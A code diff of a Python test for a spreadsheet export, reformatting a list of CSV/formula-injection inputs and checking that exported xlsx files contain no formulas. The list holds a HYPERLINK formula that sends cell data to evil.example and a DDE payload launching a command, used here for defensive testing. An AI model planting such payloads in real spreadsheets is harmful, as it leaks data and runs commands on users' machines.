@@ -9,24 +9,44 @@ import zipfile
 
 import openpyxl
 
-from data_access import export, queries, store
+from data_access import export, store
 from data_access.db import write_transaction
+from data_access.reads import review_figures
 from data_access.rules import parse_timescale
-from data_access.snapshot import PlanInfo, ReviewSnapshot, TrackerRow
+from data_access.tracker_rows import PlanInfo, ReviewSnapshot, TrackerRow
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "<script>alert(1)</script>"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "<script>alert(1)</script>",
+]
 
 
 def _actions(engine):
-    rows = [TrackerRow("a", "Rec A", text, action_id=f"1.{i}", lead="Head of Service", status="red",
-                       timescale=parse_timescale("March 2017"), progress=text) for i, text in enumerate(HOSTILE, 1)]
-    rows.append(TrackerRow("b", "Rec B", "Plain action", action_id="2.1", status="complete",
-                           timescale=parse_timescale("Ongoing")))
+    rows = [
+        TrackerRow(
+            "a",
+            "Rec A",
+            text,
+            action_id=f"1.{i}",
+            lead="Head of Service",
+            status="red",
+            timescale=parse_timescale("March 2017"),
+            progress=text,
+        )
+        for i, text in enumerate(HOSTILE, 1)
+    ]
+    rows.append(
+        TrackerRow(
+            "b", "Rec B", "Plain action", action_id="2.1", status="complete", timescale=parse_timescale("Ongoing")
+        )
+    )
     with write_transaction(engine) as conn:
         plan_id = store.ensure_plan(conn, PlanInfo("Export test"))
         review_id = store.save_review(conn, plan_id, ReviewSnapshot(dt.date(2017, 6, 30), rows), source="t.xlsx")
-    return queries.review_actions(engine, review_id, dt.date(2017, 6, 30))
+    return review_figures.review_actions(engine, review_id, dt.date(2017, 6, 30))
 
 
 def test_xlsx_has_no_formulas_and_keeps_the_text_exactly(engine):
